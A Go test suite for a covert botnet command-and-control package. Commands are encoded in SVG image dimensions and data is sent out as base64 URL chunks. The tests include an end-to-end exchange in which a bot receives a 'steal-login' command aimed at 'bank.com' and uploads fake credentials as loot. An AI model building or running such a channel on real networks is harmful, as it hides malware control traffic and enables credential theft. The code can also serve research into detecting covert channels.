package cnc

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"testing"
	"testing/quick"
	"time"
)

func TestDimsRoundTrip(t *testing.T) {
	for _, msg := range [][]byte{nil, {}, []byte("x"), []byte("abcd"), []byte("hello world, this is the master speaking")} {
		dims := EncodeDims(msg)
		got, err := DecodeDims(dims)
		if err != nil {
			t.Fatalf("decode %q: %v", msg, err)
		}
		if !bytes.Equal(got, msg) {
			t.Fatalf("round trip %q -> %q", msg, got)
		}
	}
}

func TestDimsRoundTripProperty(t *testing.T) {
	f := func(msg []byte) bool {
		got, err := DecodeDims(EncodeDims(msg))
		return err == nil && bytes.Equal(got, msg)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestImagesNeededMatchesEncoder(t *testing.T) {
	for n := 0; n < 64; n++ {
		msg := bytes.Repeat([]byte("a"), n)
		if got, want := len(EncodeDims(msg)), ImagesNeeded(n); got != want {
			t.Fatalf("n=%d: encoder %d images, ImagesNeeded %d", n, got, want)
		}
	}
}

func TestFourBytesPerImage(t *testing.T) {
	// 60 payload bytes + 4 length prefix = 64 bytes = 16 images.
	if got := len(EncodeDims(make([]byte, 60))); got != 16 {
		t.Fatalf("images = %d, want 16", got)
	}
}

func TestDecodeTruncated(t *testing.T) {
	dims := EncodeDims([]byte("a long enough message"))
	if _, err := DecodeDims(dims[:2]); err == nil {
		t.Fatal("truncated stream decoded")
	}
	if _, err := DecodeDims(nil); err == nil {
		t.Fatal("empty stream decoded")
	}
}

func TestClamp(t *testing.T) {
	cases := map[int]uint16{-5: 0, 0: 0, 100: 100, 65535: 65535, 70000: 65535}
	for in, want := range cases {
		if got := Clamp(in); got != want {
			t.Errorf("Clamp(%d) = %d, want %d", in, got, want)
		}
	}
}

func TestSVGRoundTripAndSize(t *testing.T) {
	d := Dim{W: 513, H: 65535}
	svg := RenderSVG(d)
	// The paper: "An SVG image, having no actual content, is of size 100
	// bytes" — ours must stay in that ballpark for the overhead math.
	if len(svg) > 120 {
		t.Fatalf("svg size = %d bytes, want ≤120", len(svg))
	}
	got, err := ParseSVG(svg)
	if err != nil {
		t.Fatal(err)
	}
	if got != d {
		t.Fatalf("round trip %+v -> %+v", d, got)
	}
}

func TestSVGDimRoundTripProperty(t *testing.T) {
	f := func(w, h uint16) bool {
		got, err := ParseSVG(RenderSVG(Dim{W: w, H: h}))
		return err == nil && got == Dim{W: w, H: h}
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestParseSVGClampsOversize(t *testing.T) {
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="70000" height="3"></svg>`)
	d, err := ParseSVG(svg)
	if err != nil {
		t.Fatal(err)
	}
	if d.W != MaxDim {
		t.Fatalf("width = %d, want clamped %d", d.W, MaxDim)
	}
}

func TestParseSVGRejectsGarbage(t *testing.T) {
	if _, err := ParseSVG([]byte("<html>not an svg</html>")); err == nil {
		t.Fatal("garbage parsed as SVG")
	}
}

func TestURLChunksRoundTrip(t *testing.T) {
	data := bytes.Repeat([]byte("credential-dump "), 200) // 3200 bytes
	chunks := EncodeURLChunks(data, 1024)
	if len(chunks) != 4 {
		t.Fatalf("chunks = %d, want 4", len(chunks))
	}
	var got []byte
	for _, c := range chunks {
		part, err := DecodeURLChunk(c)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, part...)
	}
	if !bytes.Equal(got, data) {
		t.Fatal("upstream round trip corrupted")
	}
}

func TestURLChunksRoundTripProperty(t *testing.T) {
	f := func(data []byte, size uint8) bool {
		chunks := EncodeURLChunks(data, int(size))
		var got []byte
		for _, c := range chunks {
			part, err := DecodeURLChunk(c)
			if err != nil {
				return false
			}
			got = append(got, part...)
		}
		return bytes.Equal(got, data) || (len(data) == 0 && len(got) == 0)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestURLChunkRejectsBadBase64(t *testing.T) {
	if _, err := DecodeURLChunk("!!!not-base64!!!"); err == nil {
		t.Fatal("bad chunk decoded")
	}
}

func TestMasterBotEndToEnd(t *testing.T) {
	t.Parallel()
	master := NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := shutdown(); err != nil {
			t.Errorf("shutdown: %v", err)
		}
	}()

	bot := &Bot{BaseURL: base, ID: "bot-1", Concurrency: 4}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()

	// Nothing pending yet.
	if _, _, ok, err := bot.Poll(ctx); err != nil || ok {
		t.Fatalf("empty poll: ok=%v err=%v", ok, err)
	}

	// Downstream command.
	cmd := []byte(`{"module":"steal-login","target":"bank.com"}`)
	id := master.QueueCommand("bot-1", cmd)
	got, gotID, ok, err := bot.Poll(ctx)
	if err != nil || !ok {
		t.Fatalf("poll: ok=%v err=%v", ok, err)
	}
	if gotID != id || !bytes.Equal(got, cmd) {
		t.Fatalf("poll got id=%d %q", gotID, got)
	}

	// Same command not re-delivered.
	if _, _, ok, err := bot.Poll(ctx); err != nil || ok {
		t.Fatalf("re-poll: ok=%v err=%v", ok, err)
	}

	// Upstream exfiltration.
	loot := bytes.Repeat([]byte("user=alice&pass=hunter2;"), 300)
	if err := bot.Upload(ctx, "creds", loot); err != nil {
		t.Fatalf("upload: %v", err)
	}
	up, ok := master.Upload("bot-1", "creds")
	if !ok || !bytes.Equal(up, loot) {
		t.Fatalf("master upload: ok=%v len=%d want %d", ok, len(up), len(loot))
	}
}

func TestMasterLargeCommandManyImages(t *testing.T) {
	t.Parallel()
	master := NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = shutdown() }()
	size := 8192 // 2049 images
	if testing.Short() {
		size = 1024 // the CI race run keeps the shape, not the volume
	}
	cmd := bytes.Repeat([]byte("X"), size)
	master.QueueCommand("b", cmd)
	bot := &Bot{BaseURL: base, ID: "b", Concurrency: 16}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	got, _, ok, err := bot.Poll(ctx)
	if err != nil || !ok {
		t.Fatalf("poll: %v", err)
	}
	if !bytes.Equal(got, cmd) {
		t.Fatalf("large command corrupted: %d bytes", len(got))
	}
}

func TestMasterUnfinishedUploadInvisible(t *testing.T) {
	t.Parallel()
	master := NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = shutdown() }()
	bot := &Bot{BaseURL: base, ID: "b"}
	ctx := context.Background()
	// Send one chunk manually without fin.
	chunk := EncodeURLChunks([]byte("partial"), 0)[0]
	if err := bot.get(ctx, base+"/up/b/s/0/"+chunk); err != nil {
		t.Fatal(err)
	}
	if _, ok := master.Upload("b", "s"); ok {
		t.Fatal("unfinished stream visible")
	}
}

func TestBatchSVGRoundTrip(t *testing.T) {
	dims := EncodeDims(bytes.Repeat([]byte("batchy payload"), 40))
	doc := AppendBatchSVG(nil, dims)
	got, err := ParseBatchSVG(nil, doc)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(dims) {
		t.Fatalf("tiles = %d, want %d", len(got), len(dims))
	}
	for i := range dims {
		if got[i] != dims[i] {
			t.Fatalf("tile %d = %+v, want %+v", i, got[i], dims[i])
		}
	}
	// A plain channel SVG decodes as a batch of one.
	one, err := ParseBatchSVG(nil, RenderSVG(Dim{W: 7, H: 9}))
	if err != nil || len(one) != 1 || one[0] != (Dim{W: 7, H: 9}) {
		t.Fatalf("single parse = %v err=%v", one, err)
	}
	// Garbage stays garbage.
	if _, err := ParseBatchSVG(nil, []byte("<html>nope</html>")); err == nil {
		t.Fatal("garbage parsed as batch")
	}
}

func TestParseSVGOnBatchDocYieldsFirstTile(t *testing.T) {
	// The single-image parser scans past the dimensionless sprite wrapper
	// to the first tile, mirroring the historical regexp behaviour.
	doc := AppendBatchSVG(nil, []Dim{{W: 11, H: 22}, {W: 33, H: 44}})
	d, err := ParseSVG(doc)
	if err != nil || d != (Dim{W: 11, H: 22}) {
		t.Fatalf("ParseSVG(batch) = %+v err=%v", d, err)
	}
}

func TestMasterBatchRoute(t *testing.T) {
	master := NewMasterServer()
	payload := bytes.Repeat([]byte("Z"), 300) // 76 images
	id := master.QueueCommand("b", payload)
	want := EncodeDims(payload)

	status, ctype, body := master.Route(fmt.Sprintf("/batch/b/%d/0/64.svg", id), nil)
	if status != 200 || ctype != "image/svg+xml" {
		t.Fatalf("batch status=%d ctype=%q", status, ctype)
	}
	head, err := ParseBatchSVG(nil, body)
	if err != nil || len(head) != 64 {
		t.Fatalf("head batch = %d tiles err=%v", len(head), err)
	}
	// The final short batch is truncated to the command's image count.
	status, _, body = master.Route(fmt.Sprintf("/batch/b/%d/64/64.svg", id), nil)
	if status != 200 {
		t.Fatalf("tail status = %d", status)
	}
	tail, err := ParseBatchSVG(nil, body)
	if err != nil || len(tail) != len(want)-64 {
		t.Fatalf("tail batch = %d tiles, want %d (err=%v)", len(tail), len(want)-64, err)
	}
	got, err := DecodeDims(append(head, tail...))
	if err != nil || !bytes.Equal(got, payload) {
		t.Fatalf("batched round trip corrupted: err=%v", err)
	}
	// Out-of-range and malformed refs fail like the per-image route.
	if status, _, _ := master.Route(fmt.Sprintf("/batch/b/%d/999/4.svg", id), nil); status != 404 {
		t.Fatalf("oob from status = %d, want 404", status)
	}
	if status, _, _ := master.Route("/batch/b/nope/0/4.svg", nil); status != 400 {
		t.Fatalf("bad id status = %d, want 400", status)
	}
}

func TestRouteMatchesServeHTTPWire(t *testing.T) {
	// Route is served both over net/http and over httpsim; the adapter
	// relies on Route's status/content-type/body matching what ServeHTTP
	// puts on a real socket.
	master := NewMasterServer()
	master.QueueCommand("b", []byte("hello"))
	for _, path := range []string{
		"/meta/b.svg", "/img/b/1/0.svg", "/img/b/1/99.svg", "/img/b/zzz/0.svg",
		"/batch/b/1/0/2.svg", "/up/b/s/0/aGk", "/up/b/s/fin", "/nonsense", "/",
	} {
		status, _, body := master.Route(path, nil)
		req := httptest.NewRequest(http.MethodGet, path, nil)
		rec := httptest.NewRecorder()
		master.ServeHTTP(rec, req)
		if rec.Code != status || !bytes.Equal(rec.Body.Bytes(), body) {
			t.Fatalf("%s: Route (%d, %q) != ServeHTTP (%d, %q)",
				path, status, body, rec.Code, rec.Body.Bytes())
		}
	}
}

// TestUploadSeqDoesNotSizeMemory is the unbounded-upload-index
// regression: a chunk whose URL names a huge seq costs the bytes it
// carries, not a slice sized by the seq, and Upload still joins a
// stream's chunks in seq order.
func TestUploadSeqDoesNotSizeMemory(t *testing.T) {
	master := NewMasterServer()
	path := fmt.Sprintf("/up/b/s/%d/%s", 1<<20, EncodeURLChunks([]byte("C"), 0)[0])
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	status, _, _ := master.Route(path, nil)
	runtime.ReadMemStats(&after)
	if status != http.StatusOK {
		t.Fatalf("status = %d, want 200", status)
	}
	if got := after.TotalAlloc - before.TotalAlloc; got >= 64<<10 {
		t.Fatalf("one chunk at seq 1<<20 allocated %d bytes, want < 64 KiB", got)
	}
	for _, up := range []struct {
		seq  int
		data string
	}{{7, "B"}, {0, "A"}} {
		path := fmt.Sprintf("/up/b/s/%d/%s", up.seq, EncodeURLChunks([]byte(up.data), 0)[0])
		if status, _, _ := master.Route(path, nil); status != http.StatusOK {
			t.Fatalf("%s: status = %d", path, status)
		}
	}
	master.Route("/up/b/s/fin", nil)
	if got, ok := master.Upload("b", "s"); !ok || string(got) != "ABC" {
		t.Fatalf("Upload = %q, %v; want \"ABC\" in seq order", got, ok)
	}
}

// FuzzMasterRoute throws arbitrary paths at a master holding one queued
// command: Route must not panic, must answer 200, 400 or 404, and every
// image it serves on /meta, /img or /batch must parse back through
// ParseSVG or ParseBatchSVG.
func FuzzMasterRoute(f *testing.F) {
	for _, path := range []string{
		"/meta/b.svg", "/meta/nobody.svg", "/img/b/1/0.svg", "/img/b/1/99.svg", "/img/b/zzz/0.svg",
		"/batch/b/1/0/2.svg", "/batch/b/1/0/64.svg", "/batch/b/1/64/64.svg", "/batch/b/1/999/4.svg",
		"/batch/b/nope/0/4.svg", "/batch/b/1/1/9223372036854775807.svg",
		"/up/b/s/0/aGk", "/up/b/s/fin", "/up/b/s/-1/aGk", "/up/b/s/0/!!!",
		"/nonsense", "/", "",
	} {
		f.Add(path)
	}
	payload := bytes.Repeat([]byte("Z"), 300)
	images := len(EncodeDims(payload))
	f.Fuzz(func(t *testing.T, path string) {
		master := NewMasterServer()
		master.QueueCommand("b", payload)
		status, _, body := master.Route(path, nil)
		switch status {
		case http.StatusOK, http.StatusBadRequest, http.StatusNotFound:
		default:
			t.Fatalf("%q: status %d", path, status)
		}
		if status != http.StatusOK {
			return
		}
		switch p := strings.TrimLeft(path, "/"); {
		case strings.HasPrefix(p, "meta/"), strings.HasPrefix(p, "img/"):
			if _, err := ParseSVG(body); err != nil {
				t.Fatalf("%q: served image does not parse: %v\n%s", path, err, body)
			}
		case strings.HasPrefix(p, "batch/"):
			dims, err := ParseBatchSVG(nil, body)
			if err != nil || len(dims) == 0 || len(dims) > images {
				t.Fatalf("%q: served batch parses to %d tiles (command has %d): %v", path, len(dims), images, err)
			}
		}
	})
}

// TestStreamingCodecAllocs locks the Append-form codecs at zero
// allocations once their destination buffers are warm. Skipped in -short
// mode: the CI race detector perturbs counts.
func TestStreamingCodecAllocs(t *testing.T) {
	if testing.Short() {
		t.Skip("allocation counts shift under -race; tier-1 runs this")
	}
	msg := bytes.Repeat([]byte("m"), 1024)
	dims := make([]Dim, 0, ImagesNeeded(len(msg)))
	buf := make([]byte, 0, 4096)

	if got := testing.AllocsPerRun(200, func() {
		dims = AppendDims(dims[:0], msg)
	}); got > 0 {
		t.Errorf("AppendDims allocs/op = %.1f, want 0", got)
	}
	dims = AppendDims(dims[:0], msg)
	if got := testing.AllocsPerRun(200, func() {
		out, err := AppendDecodeDims(buf[:0], dims)
		if err != nil || len(out) != len(msg) {
			t.Fatalf("decode: %v (%d bytes)", err, len(out))
		}
	}); got > 0 {
		t.Errorf("AppendDecodeDims allocs/op = %.1f, want 0", got)
	}
	if got := testing.AllocsPerRun(200, func() {
		buf = AppendSVG(buf[:0], Dim{W: 513, H: 65535})
		if _, err := ParseSVG(buf); err != nil {
			t.Fatal(err)
		}
	}); got > 0 {
		t.Errorf("SVG append+parse allocs/op = %.1f, want 0", got)
	}
	if got := testing.AllocsPerRun(200, func() {
		buf = AppendURLChunk(buf[:0], msg)
	}); got > 0 {
		t.Errorf("AppendURLChunk allocs/op = %.1f, want 0", got)
	}
}

func TestURLChunkAppendMatchesEncode(t *testing.T) {
	data := bytes.Repeat([]byte("exfil!"), 333)
	want := EncodeURLChunks(data, len(data))[0]
	if got := string(AppendURLChunk(nil, data)); got != want {
		t.Fatalf("AppendURLChunk = %q, want %q", got, want)
	}
	dec, err := DecodeURLChunk(want)
	if err != nil || !bytes.Equal(dec, data) {
		t.Fatalf("DecodeURLChunk round trip failed: %v", err)
	}
	if _, err := DecodeURLChunk("!!!not-base64!!!"); err == nil {
		t.Fatal("bad chunk decoded")
	}
}

func TestBatchRouteOverflowCountSafe(t *testing.T) {
	// A crafted count near MaxInt must not wrap the bounds check into a
	// slice panic; the batch is truncated to what the command holds.
	master := NewMasterServer()
	id := master.QueueCommand("b", []byte("hello world"))
	status, _, body := master.Route(fmt.Sprintf("/batch/b/%d/1/9223372036854775807.svg", id), nil)
	if status != 200 {
		t.Fatalf("status = %d, want 200", status)
	}
	got, err := ParseBatchSVG(nil, body)
	want := ImagesNeeded(len("hello world")) - 1
	if err != nil || len(got) != want {
		t.Fatalf("tiles = %d err=%v, want %d", len(got), err, want)
	}
}

func TestParseSVGBacktracksPastDigitlessAttr(t *testing.T) {
	// The historical regexp backtracked past a digitless width attribute
	// to a later well-formed pair; the hand-written scan must too.
	d, err := ParseSVG([]byte(`<svg width="" width="5" height="6"></svg>`))
	if err != nil || d != (Dim{W: 5, H: 6}) {
		t.Fatalf("ParseSVG = %+v err=%v, want {5 6}", d, err)
	}
}

func TestParseSVGOverflowOnlyFailsWinningMatch(t *testing.T) {
	// Regexp semantics: matching is structural and Atoi only ever ran on
	// the winning match's captures. An overflowing candidate that the
	// pattern backtracks past must not abort the parse...
	d, err := ParseSVG([]byte(`<svg width="99999999999999999999" height="x" width="5" height="6"></svg>`))
	if err != nil || d != (Dim{W: 5, H: 6}) {
		t.Fatalf("ParseSVG = %+v err=%v, want {5 6}", d, err)
	}
	// ...but an overflowing run on the structurally-first full match is
	// exactly where Atoi used to fail.
	if _, err := ParseSVG([]byte(`<svg width="99999999999999999999" height="6"></svg>`)); err == nil {
		t.Fatal("overflowing winning match parsed")
	}
}

func TestPollWithLargeBatchSize(t *testing.T) {
	// A sprite bigger than the old fixed 64 KB read cap must still
	// decode: the read limit scales with the configured batch size.
	t.Parallel()
	master := NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = shutdown() }()
	cmd := bytes.Repeat([]byte{0xff}, 8188) // 2048 images, all dims 65535
	master.QueueCommand("big", cmd)
	bot := &Bot{BaseURL: base, ID: "big", Concurrency: 4, BatchSize: 2048}
	got, _, ok, err := bot.Poll(context.Background())
	if err != nil || !ok || !bytes.Equal(got, cmd) {
		t.Fatalf("large-batch poll: ok=%v err=%v", ok, err)
	}
}
